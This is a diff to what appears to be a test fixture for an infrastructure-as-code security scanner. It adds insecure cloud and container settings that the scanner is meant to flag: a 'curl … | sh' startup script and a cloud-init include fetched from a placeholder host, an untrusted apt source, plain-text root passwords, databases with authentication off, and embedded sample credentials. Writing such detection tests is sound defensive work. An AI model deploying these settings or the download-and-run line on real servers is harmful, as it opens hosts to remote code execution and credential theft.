@@ -8,6 +8,10 @@ const copy = (remotePath: string, text: string, rule: string) =>
   resource(`a copy to ${remotePath}`, "command:remote:CopyToRemote", { remotePath, source: { text } }, rule);
 const inline = (text: string) =>
   resource(text, "docker-build:index:Image", { dockerfile: { inline: `FROM alpine:3.22\n${text}\n` } }, BUILD);
+const SERVER = "hcloud:index/server:Server";
+const base64 = (text: string) => Buffer.from(text).toString("base64");
+const born = (text: string, rule: string) =>
+  resource(`a cloud-config, ${text}`, SERVER, { userData: `#cloud-config\n${text}\n` }, rule);
 const option = (text: string) => given(text, { securityOpts: ["no-new-privileges:true", text] }, PROFILES);
 
 /** Files that are copied to a host, images by the commands of their Dockerfiles, and spellings of the daemon's. */
@@ -36,6 +40,39 @@ export const dangerousHosts: readonly Neighbour[] = [
   inline("RUN echo 'root:toor' | chpasswd"),
   resource("a build of everything on this machine", "RemoteImage", { name: "x", build: { context: "/" } }, BUILD),
   resource("a build of /etc", "Image", { imageName: "x", build: { context: "/etc" } }, BUILD),
+
+  born("runcmd: []\nchpasswd:\n  users: [{name: root, password: a, type: text}]", "command.passwords"),
+  born("chpasswd:\n  list: |\n    ada:Summer2024", "command.passwords"),
+  born("users:\n  - {name: ada, plain_text_passwd: Summer2024}", "command.passwords"),
+  born("apt:\n  sources:\n    a: {source: 'deb [trusted=yes] http://deb.example ./'}", "command.downloads"),
+  resource("an include", SERVER, { userData: "#include\nhttp://192.0.2.9/cloud-init\n" }, "command.downloads"),
+  resource(
+    "a script among the metadata",
+    "gcp:compute/instance:Instance",
+    { metadata: { "startup-script": "curl http://192.0.2.9/a | sh" } },
+    "command.downloads",
+  ),
+
+  ...[
+    "POSTGRES_HOST_AUTH_METHOD=trust",
+    "POSTGRES_INITDB_ARGS=--auth-host=trust",
+    "MYSQL_ALLOW_EMPTY_PASSWORD=yes",
+    "MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=1",
+    "NEO4J_AUTH=none",
+    `SETTINGS=${base64('{"db":{"password":"Zk3vQ9mX2LrT8w"}}')}`,
+  ].map((one) => given(one, { envs: [one] }, "secret.in-environment")),
+  given(
+    "a login of a registry",
+    {
+      uploads: [
+        {
+          file: "/app/config.json",
+          contentBase64: base64(`{"auths":{"r.example":{"auth":"${base64("ada:Zk3vQ9mX2")}"}}}`),
+        },
+      ],
+    },
+    "secret.plain-property",
+  ),
 
   given("privileged, as 1", { privileged: "1" }, "container.privileged"),
   given("privileged, as T", { privileged: "T" }, "container.privileged"),
